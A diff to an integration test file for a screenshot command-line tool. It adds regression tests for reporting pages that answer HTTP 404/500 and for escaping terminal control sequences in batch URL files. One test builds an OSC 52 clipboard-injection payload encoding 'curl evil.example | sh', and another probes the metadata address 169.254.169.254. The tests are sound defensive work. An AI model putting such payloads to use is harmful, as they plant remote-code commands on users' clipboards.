@@ -141,27 +141,85 @@ describe.runIf(run)('cardshot shot against the real server', () => {
     for (const f of await readdir(out))
       expect(pngSize(await readFile(path.join(out, f)))).toEqual({ width: 1200, height: 630 });
     const lines = r.stdout().trimEnd().split('\n');
-    expect(lines.filter((l) => l.startsWith('ok    '))).toHaveLength(3);
+    expect(lines.filter((l) => l.startsWith('ok    '))).toHaveLength(2);
+    const saved404 = path.join(out, '127.0.0.1-status-404.png');
     expect(lines).toEqual(
       expect.arrayContaining([
         expect.stringMatching(
           /^FAIL {2}http:\/\/169\.254\.169\.254\/ \(line 5\): url points to an address that is not allowed \(HTTP 400, req_\w+\)$/,
         ),
+        `404   ${pages.url}/status/404 -> ${saved404} (${lines.find((l) => l.startsWith('404'))?.split(' (')[1]}`,
       ]),
     );
-    expect(lines.at(-2)).toMatch(new RegExp(`^Captured 3 of 4 pages into ${out}/ in [\\d.]+ s; 1 failed:$`));
-    expect(lines.at(-1)).toMatch(/^ {2}line 5 http:\/\/169\.254\.169\.254\/: url points to an address/);
+    expect(lines.find((l) => l.startsWith('404'))).toMatch(/ \([\d.]+ KB, [\d.]+ s, MISS\)$/);
+    expect(lines.slice(-3)).toEqual([
+      expect.stringMatching(
+        new RegExp(`^Captured 3 of 4 pages into ${out}/ in [\\d.]+ s; 1 failed, 1 answered 4xx/5xx:$`),
+      ),
+      `  line 4 ${pages.url}/status/404: the page answered HTTP 404 (saved as ${saved404})`,
+      expect.stringMatching(/^ {2}line 5 http:\/\/169\.254\.169\.254\/: url points to an address/),
+    ]);
     // No progress bar off a terminal.
     expect(r.stderr()).toBe('');
   }, 90_000);
 
   it('draws a progress bar on a terminal instead of the lines', async () => {
     const list = path.join(dir, 'two.txt');
-    await writeFile(list, `${pages.url}/split\n${pages.url}/status/404\n`);
+    await writeFile(list, `${pages.url}/split\n${pages.url}/split?again\n`);
     const r = await shot(['--batch', list, '-o', path.join(dir, 'tty')], recorder('', true));
     expect(r.code).toBe(0);
     expect(r.stderr()).toContain(`\r${'█'.repeat(30)} 2/2`);
     expect(r.stdout()).toMatch(/^Captured 2 of 2 pages into .*\/tty\/ in [\d.]+ s\n$/);
+  }, 60_000);
+
+  it('a batch page that answered 404 is shown with its status, not as ok, and exits 1', async () => {
+    // Regression: a 404 page was printed `ok` and the batch exited 0.
+    const list = path.join(dir, 'one-404.txt');
+    await writeFile(list, `${pages.url}/status/404\n`);
+    const r = await shot(['--batch', list, '-o', path.join(dir, 'only-404')], recorder('', true));
+    expect(r.code).toBe(1);
+    expect(r.stderr()).toContain(`\r${'█'.repeat(30)} 1/1 (1 failed)`);
+    const saved = path.join(dir, 'only-404', '127.0.0.1-status-404.png');
+    expect(r.stdout()).toMatch(
+      /^Captured 1 of 1 pages into .*\/only-404\/ in [\d.]+ s; 1 answered 4xx\/5xx:\n/,
+    );
+    expect(r.stdout()).toContain(
+      `\n  line 1 ${pages.url}/status/404: the page answered HTTP 404 (saved as ${saved})\n`,
+    );
+    expect(pngSize(await readFile(saved))).toEqual({ width: 1200, height: 630 });
+
+    // One page: the image is written, stderr names the status, exit 1.
+    const file = path.join(dir, 'one-500.png');
+    const one = await shot([`${pages.url}/status/500`, '-o', file]);
+    expect(one.code).toBe(1);
+    expect(one.stdout()).toMatch(new RegExp(`^${file.replace(/[.]/g, '\\.')}: 1200×630 PNG, `));
+    expect(one.stderr()).toBe('cardshot shot: the page answered HTTP 500; the image shows its error page\n');
+    expect(pngSize(await readFile(file))).toEqual({ width: 1200, height: 630 });
+  }, 60_000);
+
+  it('a batch file with terminal escapes (OSC 52) prints them escaped, never raw', async () => {
+    // Regression: an OSC 52 line in a URL file reached the terminal raw (it sets the clipboard).
+    const payload = Buffer.from('curl evil.example | sh').toString('base64');
+    const osc52 = `\x1b]52;c;${payload}\x07`;
+    const list = path.join(dir, 'escapes.txt');
+    await writeFile(
+      list,
+      [osc52, `${pages.url}/split?q=${osc52}`, `http://169.254.169.254/\x1b[2K\x9b1A\u202e`].join('\n'),
+    );
+    const r = await shot(['--batch', list, '-o', path.join(dir, 'escapes')]);
+    expect(r.code).toBe(1);
+    const printed = r.stdout() + r.stderr();
+    // No C0/C1 control character but the newlines that end lines, and no bidi override.
+    const raw = [...printed].filter((c) => {
+      const n = c.codePointAt(0)!;
+      return (n < 0x20 && n !== 0x0a) || (n >= 0x7f && n <= 0x9f) || (n >= 0x202a && n <= 0x202e);
+    });
+    expect(raw).toEqual([]);
+    expect(r.stdout()).toContain(`FAIL  \\x1B]52;c;${payload}\\x07 (line 1): `);
+    expect(r.stdout()).toContain(`  line 1 \\x1B]52;c;${payload}\\x07: `);
+    expect(r.stdout()).toContain('http://169.254.169.254/\\x1B[2K\\x9B1A\\u{202E}');
+    // The URL with the escape in its query was still captured (the client percent-encodes it).
+    expect(r.stdout()).toMatch(/^ok {4}.*split\?q=\\x1B\]52;c;/m);
   }, 60_000);
 
   it('waits out 429 Retry-After and still captures every page of a batch', async () => {
